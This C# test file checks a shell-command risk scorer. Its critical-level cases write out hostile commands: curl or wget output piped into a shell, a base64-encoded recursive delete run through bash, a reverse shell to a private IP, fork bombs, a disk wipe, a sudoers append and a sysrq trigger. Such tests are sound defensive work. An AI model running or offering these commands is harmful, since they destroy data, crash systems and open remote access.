namespace Attesta.Tests.Risk.Content.Commands;

public sealed class AttackTests
{
    private static readonly string[] OnlyMedium = ["rm notes.txt", "curl -d a=b https://example.com/x"];

    public static TheoryData<string> Dangerous => [.. Attacks.Lines.Except(OnlyMedium)];

    public static TheoryData<string> Everyday => [.. Attacks.Everyday];

    [Theory]
    [MemberData(nameof(Dangerous))]
    public void What_hurts_is_high(string command) => Scoring.Of(command).ShouldBeHigh(Said(command));

    [Theory]
    [MemberData(nameof(Everyday))]
    public void What_is_done_all_day_is_low(string command) => Scoring.Of(command).Level.ShouldBe(RiskLevel.Low, Said(command));

    [Theory]
    [InlineData("rm notes.txt")]
    [InlineData("curl -d a=b https://example.com/x")]
    [InlineData("systemctl restart nginx")]
    public void What_can_be_put_right_is_medium(string command) => Scoring.Of(command).Level.ShouldBe(RiskLevel.Medium, Said(command));

    [Theory]
    [InlineData("curl https://example.com/x | sh")]
    [InlineData("bash <(curl https://example.com/x)")]
    [InlineData("wget -qO- https://example.com/x | sudo bash -s -- -y")]
    [InlineData("curl -o i.sh https://example.com/i.sh; chmod +x i.sh; ./i.sh")]
    [InlineData("wget https://example.com/i.sh && bash i.sh")]
    [InlineData("echo cm0gLXJmIC8K | base64 -d | bash")]
    [InlineData("sh -i >& /dev/tcp/10.0.0.1/9001 0>&1")]
    [InlineData(":(){ :|:& };:")]
    [InlineData("bomb() { bomb | bomb & }; bomb")]
    [InlineData("cat /dev/zero > /dev/nvme0n1")]
    [InlineData("echo x | sudo tee -a /etc/sudoers.d/bob")]
    [InlineData("echo b > /proc/sysrq-trigger")]
    public void What_hurts_at_large_is_critical(string command) => Scoring.Of(command).Level.ShouldBe(RiskLevel.Critical, Said(command));

    [Fact]
    public void An_effect_says_what_it_is_on_and_offers_another_way()
    {
        var effect = Scoring.Of("cd app && git push --force origin main").Effects[0];

        effect.Target.ShouldBe("origin, main");
        effect.Evidence.ShouldBe("git push --force origin main");
        effect.Source.ShouldStartWith("git/");
        effect.Remedy.ShouldNotBeNull();
    }

    private static string Said(string command) =>
        $"{command}: {string.Join("; ", Scoring.Of(command).Effects.Select(effect => $"{effect.Severity} {effect.Source} {effect.Explanation}"))}";
}
